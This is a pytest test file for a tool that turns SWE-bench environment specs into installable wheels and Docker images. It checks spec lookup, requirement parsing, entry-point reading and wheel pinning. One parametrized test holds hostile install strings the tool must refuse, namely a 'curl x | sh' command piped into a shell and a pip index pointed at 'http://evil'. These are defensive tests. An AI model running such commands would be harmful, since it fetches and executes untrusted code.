"""SWE-bench specifications: lookup, what of a spec reaches a task, the editable wheel."""

from __future__ import annotations

import io
import zipfile
from importlib import metadata
from pathlib import Path

import pytest

from repo2rlenv.kinds import instance_deps, instance_wheels, swe_specs
from repo2rlenv.kinds.instance_deps import DependencyError, PinUnmet, fetch_wheels
from repo2rlenv.kinds.swe_specs import (
    SpecUnsupported,
    SweSpec,
    editable_wheel,
    entry_points,
    install_extras,
    project_version,
    provenance,
    spec_for,
    spec_requirements,
)

# the shape of sqlfluff's setup.py at 14e1a23a (sqlfluff-1625's base commit; MIT):
# version from a config file (not a literal), entry points as a literal
SQLFLUFF_SETUP = """
import configparser
from setuptools import find_packages, setup
config = configparser.ConfigParser()
config.read(["src/sqlfluff/config.ini"])
version = config.get("sqlfluff", "version")
setup(
    name="sqlfluff",
    version=version,
    install_requires=["click>=7.1", "pytest", "dataclasses; python_version < '3.7'"],
    entry_points={
        "console_scripts": ["sqlfluff = sqlfluff.cli.commands:cli"],
        "sqlfluff": ["sqlfluff = sqlfluff.core.plugin.lib"],
    },
)
"""
REQUIREMENTS_DEV = "# dev\nflake8\nhypothesis\npytest\n-r requirements.txt\n-r ../../etc/x\n"
REQUIREMENTS = "click>=7.1\ndataclasses; python_version < '3.7'\n--index-url http://x\ntoml\n"
SQLFLUFF_FILES = {
    "setup.py": SQLFLUFF_SETUP,
    "requirements_dev.txt": REQUIREMENTS_DEV,
    "requirements.txt": REQUIREMENTS,
    "src/sqlfluff/__init__.py": "",
}


def _spec(**fields: object) -> SweSpec:
    base = {"repo": "o/r", "version": "1.0", "source": "swebench 4.1.0"}
    return SweSpec(**(base | fields))  # type: ignore[arg-type]


def _fake_swebench(root: Path, specs: str) -> None:
    """An installed `swebench` whose package __init__ fails, as the real one does
    without its heavy dependencies: the data module must be read without it."""
    package = root / "swebench"
    (package / "harness" / "constants").mkdir(parents=True)
    (package / "__init__.py").write_text("raise ImportError('docker, modal, datasets...')\n")
    (package / "harness" / "constants" / "python.py").write_text(specs)
    info = root / "swebench-4.1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: swebench\nVersion: 4.1.0\n")


@pytest.fixture
def fake_swebench(tmp_path, monkeypatch):
    _fake_swebench(
        tmp_path,
        "SPECS_X = {k: {'python': '3.9', 'install': 'python -m pip install -e .',"
        " 'pip_packages': ['six==1.16.0'], 'test_cmd': 'pytest'} for k in ['0.6']}\n"
        "MAP_REPO_VERSION_TO_SPECS_PY = {'o/r': SPECS_X}\n"
        "MAP_REPO_TO_REQS_PATHS = {'o/r': ['requirements_dev.txt']}\n",
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    swe_specs._tables.cache_clear()
    yield
    swe_specs._tables.cache_clear()


def test_spec_is_read_from_the_data_module_without_importing_the_package(fake_swebench):
    spec = spec_for("o/r", "0.6")
    assert spec == _spec(
        version="0.6",
        python="3.9",
        install="python -m pip install -e .",
        pip_packages=("six==1.16.0",),
        requirement_paths=("requirements_dev.txt",),
        test_cmd="pytest",
    )
    assert spec_for("o/r", "0.7") is None  # no such version
    assert spec_for("o/r", None) is None  # the row has no version
    assert spec_for("other/repo", "0.6") is None


def test_without_the_package_there_is_no_spec(monkeypatch):
    monkeypatch.setattr(swe_specs, "DISTRIBUTION", "no-such-distribution-rlenv")
    swe_specs._tables.cache_clear()
    try:
        assert spec_for("sqlfluff/sqlfluff", "0.6") is None
    finally:
        swe_specs._tables.cache_clear()


def test_real_swebench_specs_when_installed():
    try:
        metadata.distribution("swebench")
    except metadata.PackageNotFoundError:
        pytest.skip("swebench is not installed (pip install 'rlenv-harvest[swe]')")
    spec = spec_for("sqlfluff/sqlfluff", "0.6")
    assert spec is not None and spec.install == "python -m pip install -e ."
    assert spec.packages == "requirements.txt"
    assert spec.requirement_paths == ("requirements_dev.txt",)
    assert install_extras(spec_for("pvlib/pvlib-python", "0.8")) == ("all",)  # type: ignore[arg-type]
    with pytest.raises(SpecUnsupported, match="apt-get"):
        install_extras(spec_for("pyvista/pyvista", "0.30"))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("install", "extras"),
    [
        (None, ()),
        ("python -m pip install -e .", ()),
        ("python -m pip install -e .[all]", ("all",)),
        ("python -m pip install -e '.[dev,test]'", ("dev", "test")),
        ("python -m pip install -v --no-use-pep517 --no-build-isolation -e .", ()),
    ],
)
def test_install_is_recognised(install, extras):
    assert install_extras(_spec(install=install)) == extras


@pytest.mark.parametrize(
    "fields",
    [
        {"install": "python setup.py develop"},
        {"install": "python -m pip install -e . && curl x | sh"},
        {"install": "python -m pip install -e ../other"},
        {"install": "python -m pip install -e . --index-url http://evil"},
        {"install": "python -m pip install -e .", "pre_install": ("sed -i s/a/b/ setup.cfg",)},
    ],
)
def test_shell_strings_are_never_taken(fields):
    with pytest.raises(SpecUnsupported):
        install_extras(_spec(**fields))


def test_requirements_of_a_spec():
    spec = _spec(
        packages="requirements.txt",
        requirement_paths=("requirements_test.txt", "requirements_dev.txt"),
        pip_packages=("numpy==1.19.2", "cython", "setuptools<70"),
    )
    pinned, named = spec_requirements(spec, SQLFLUFF_FILES)
    assert pinned == ["numpy==1.19.2"]
    # the first listed file the checkout has; `-r` followed inside it, not outside;
    # options and markers that do not hold dropped
    assert named == [
        *("cython", "setuptools<70", "flake8", "hypothesis", "pytest"),
        *("click>=7.1", "toml"),
    ]
    conda = _spec(packages="'numpy==1.19.2' scipy")
    assert spec_requirements(conda, {}) == ([], ["numpy==1.19.2", "scipy"])
    with pytest.raises(SpecUnsupported):
        spec_requirements(_spec(packages="environment.yml"), {})
    with pytest.raises(SpecUnsupported):
        spec_requirements(_spec(packages="requirements.txt", requirement_paths=("r.txt",)), {})


def test_lines_a_spec_requirements_file_leaves_out_are_listed():
    """The spec's requirements file is read by the one requirements reader: what it
    leaves out (an include leaving the checkout, an index option) is in wheels.txt."""
    spec = _spec(packages="requirements.txt", requirement_paths=("requirements_dev.txt",))
    listing = provenance(spec, "3.11", SQLFLUFF_FILES)
    assert "requirements files: requirements_dev.txt, requirements.txt" in listing
    assert "skipped requirements_dev.txt:6 requirements.include-outside: -r ../../etc/x" in listing
    assert "skipped requirements.txt:3 requirements.option: --index-url http://x" in listing
    assert provenance(spec, "3.11").count("\n") == 1  # without the checkout: the spec only


def test_entry_points_are_read_never_run():
    assert entry_points({"setup.py": "raise SystemExit('never run')\n" + SQLFLUFF_SETUP}) == {
        "console_scripts": {"sqlfluff": "sqlfluff.cli.commands:cli"},
        "sqlfluff": {"sqlfluff": "sqlfluff.core.plugin.lib"},
    }
    cfg = "[options.entry_points]\nsqlfluff =\n    sqlfluff = sqlfluff.core.plugin.lib\n"
    assert entry_points({"setup.cfg": cfg}) == {
        "sqlfluff": {"sqlfluff": "sqlfluff.core.plugin.lib"}
    }
    toml = '[project.scripts]\nx = "x.cli:main"\n[project.entry-points.pytest11]\ny = "y.plug"\n'
    assert entry_points({"pyproject.toml": toml}) == {
        "console_scripts": {"x": "x.cli:main"},
        "pytest11": {"y": "y.plug"},
    }
    assert entry_points({}) == {}


def test_project_version():
    assert project_version({"setup.py": SQLFLUFF_SETUP}, "0.6") == "0.6"  # not a literal
    assert project_version({"setup.cfg": "[metadata]\nversion = 1.2.3\n"}, "0.6") == "1.2.3"
    assert project_version({"setup.py": "setup(version='2.0a1')"}, None) == "2.0a1"
    assert project_version({}, "not a version") == "0"


def test_editable_wheel_gives_entry_points_to_importlib_metadata(tmp_path):
    points = entry_points(SQLFLUFF_FILES)
    name, data = editable_wheel("sqlfluff", "0.6", points)
    assert name == "sqlfluff-0.6-py3-none-any.whl"
    assert editable_wheel("sqlfluff", "0.6", points) == (name, data)  # same bytes
    zipfile.ZipFile(io.BytesIO(data)).extractall(tmp_path)  # what the image build does
    [dist] = list(metadata.distributions(path=[str(tmp_path)]))
    assert dist.metadata["Name"] == "sqlfluff" and dist.version == "0.6"
    [plugin] = dist.entry_points.select(group="sqlfluff")
    assert plugin.value == "sqlfluff.core.plugin.lib"
    assert not [n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if n.endswith(".py")]


def test_spec_wheels_follow_the_spec(monkeypatch):
    asked: dict[str, object] = {}

    def fake_fetch(names, prior_to=None, skip=frozenset(), strict_pins=False, note=""):
        asked.update(pins=names, strict=strict_pins, skip=skip)
        return {"flake8-3.9.2-py3-none-any.whl": b"w", "wheels.txt": (note + "x\n").encode()}

    def fake_resolve(names, python, prior_to=None, optional=frozenset()):
        asked.update(names=names, python=python, prior_to=prior_to, optional=optional)
        return [f"{n.split('>')[0]}==1.0" for n in names] + ["pytest==7.0"], "resolved\n"

    monkeypatch.setattr(instance_wheels, "fetch_wheels", fake_fetch)
    monkeypatch.setattr(instance_wheels, "resolve_for_python", fake_resolve)
    spec = _spec(
        repo="sqlfluff/sqlfluff",
        version="0.6",
        python="3.9",
        install="python -m pip install -e .",
        packages="requirements.txt",
        requirement_paths=("requirements_dev.txt",),
        pip_packages=("six==1.16.0",),
    )
    wheels = instance_wheels.spec_wheels(spec, SQLFLUFF_FILES, "2021-10-01", "0.6")
    # the spec's pin, its requirements file, then what `pip install -e .` brings; never
    # pytest (the verifier's) nor the project itself (its code is the workspace's)
    # and setuptools (with pkg_resources), as SWE-bench's conda environments have it
    # and the verifier's pytest, so that pytest plugins are versions that load under it
    assert asked["names"] == [
        *("six==1.16.0", "flake8", "hypothesis", "click>=7.1", "toml", "setuptools<82"),
        "pytest==7.2.1",
    ]
    # resolved for the spec's Python, then those exact versions, never loosened
    # the instance's date, but not before the verifier's pytest 7.2.1 was released
    assert asked["python"] == "3.9" and asked["prior_to"] == "2023-01-15"
    assert asked["strict"] is True and "pytest==7.0" not in asked["pins"]  # type: ignore[operator]
    assert "click==1.0" in asked["pins"]  # type: ignore[operator]
    # pluggy is the environment's (pytest plugins of its time need a newer one)
    assert "pluggy" not in asked["skip"] and "pytest" in asked["skip"]  # type: ignore[operator]
    # only the requirements file's tools may be dropped, never what the checkout declares
    assert asked["optional"] == {"flake8", "hypothesis", "toml"}  # not the verifier's pytest
    assert "sqlfluff" in asked["skip"]  # type: ignore[operator]
    listing = wheels["wheels.txt"].decode()
    assert listing.startswith(
        "swebench-spec: swebench 4.1.0 sqlfluff/sqlfluff 0.6 (spec python 3.9; image python 3.11)"
    )
    assert "resolved\n" in listing
    assert "editable: sqlfluff-0.6-py3-none-any.whl" in listing and "sqlfluff" in listing
    assert "sqlfluff-0.6-py3-none-any.whl" in wheels


def test_a_date_after_the_verifier_pytest_is_kept(monkeypatch):
    """The date given (the version's, `InstanceTable.environment_date`) is asked as it
    is when the verifier's pytest existed then."""
    asked: dict[str, object] = {}

    def fake_resolve(names, python, prior_to=None, optional=frozenset()):
        asked["prior_to"] = prior_to
        return [], ""

    monkeypatch.setattr(instance_wheels, "resolve_for_python", fake_resolve)
    monkeypatch.setattr(instance_wheels, "fetch_wheels", lambda *a, **k: {})
    instance_wheels.spec_wheels(_spec(), {}, "2023-06-20T09:40:09-04:00", None)
    assert asked["prior_to"] == "2023-06-20T09:40:09-04:00"
    instance_wheels.spec_wheels(_spec(), {}, None, None)
    assert asked["prior_to"] is None


def test_a_spec_pin_is_never_loosened(monkeypatch):
    calls: list[list[str]] = []

    def download(names, cutoff, folder):
        calls.append(names)
        if any("==" in n for n in names):
            raise DependencyError("No matching distribution found for numpy==1.19.2")

    monkeypatch.setattr(instance_deps, "_download", download)
    with pytest.raises(PinUnmet):
        fetch_wheels(["numpy==1.19.2", "scipy"], strict_pins=True)
    calls.clear()
    fetch_wheels(["numpy==1.19.2", "scipy"])  # a run's pin: loosened to its name
    assert calls[-1] == ["scipy", "numpy"]


def test_versions_are_resolved_for_the_spec_python(monkeypatch, tmp_path):
    calls: list[list[str]] = []

    def download(names, options, folder):
        calls.append(options)
        if "--uploaded-prior-to" in options:
            raise DependencyError("no wheel of that date")
        (Path(folder) / "click-8.1.8-py3-none-any.whl").write_bytes(b"")
        (Path(folder) / "MarkupSafe-3.0.4-cp39-cp39-manylinux2014_x86_64.whl").write_bytes(b"")

    monkeypatch.setattr(instance_deps, "_download", download)
    pins, note = instance_deps.resolve_for_python(["click"], "3.9", "2021-10-01")
    assert pins == ["click==8.1.8", "markupsafe==3.0.4"]
    assert calls[0][:2] == ["--python-version", "3.9"] and calls[1] == ["--python-version", "3.9"]
    assert note.startswith("resolved for python 3.9; date not met")


def test_only_optional_names_without_a_wheel_are_dropped(monkeypatch):
    def download(names, options, folder):
        if "types-pkg_resources" in names:
            raise DependencyError("ERROR: No matching distribution found for types-pkg_resources")
        if "gone" in names:
            raise DependencyError("ERROR: No matching distribution found for gone")
        (Path(folder) / "toml-0.10.2-py3-none-any.whl").write_bytes(b"")

    monkeypatch.setattr(instance_deps, "_download", download)
    optional = frozenset({"types-pkg-resources"})
    pins, note = instance_deps.resolve_for_python(
        ["toml", "types-pkg_resources"], "3.9", optional=optional
    )
    assert pins == ["toml==0.10.2"]
    assert "dropped (no wheel for python 3.9): types-pkg-resources" in note
    with pytest.raises(DependencyError, match="gone"):
        instance_deps.resolve_for_python(["toml", "gone"], "3.9", optional=optional)


@pytest.mark.docker
def test_entry_points_exist_in_the_built_image(tmp_path, docker_ready):
    """The image build unpacks the metadata wheel beside the `.pth`: the checkout's
    plugin is found by importlib.metadata and imported from /workspace (what sqlfluff's
    tests need), with neither pip nor a network in the image."""
    import docker

    from repo2rlenv.kinds.installs import Installs
    from repo2rlenv.kinds.installs import dockerfile_lines as install_lines

    files = {"setup.py": SQLFLUFF_SETUP, "src/sqlfluff/core/plugin/lib.py": "NAME = 'core'\n"}
    name, data = editable_wheel("sqlfluff", "0.6", entry_points(files))
    (tmp_path / "wheels").mkdir()
    (tmp_path / "wheels" / name).write_bytes(data)
    for rel, text in files.items():
        (tmp_path / "workspace" / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "workspace" / rel).write_text(text)
    _, after = install_lines(Installs(local=("",)), files)
    lines = [
        f"FROM {docker_ready}",
        *instance_deps.dockerfile_lines([name]),
        "COPY workspace/ /workspace/",
        *after,
    ]
    (tmp_path / "Dockerfile").write_text("\n".join(lines) + "\n")
    client = docker.from_env()
    image, _ = client.images.build(path=str(tmp_path), rm=True, network_mode="none")
    try:
        probe = (
            "import importlib.metadata as m; [p] = m.entry_points(group='sqlfluff'); "
            "print(m.version('sqlfluff'), p.load().NAME)"
        )
        out = client.containers.run(
            image.id, ["python3", "-c", probe], remove=True, network_disabled=True
        )
    finally:
        client.images.remove(image.id, force=True)
    assert out.decode().split() == ["0.6", "core"]
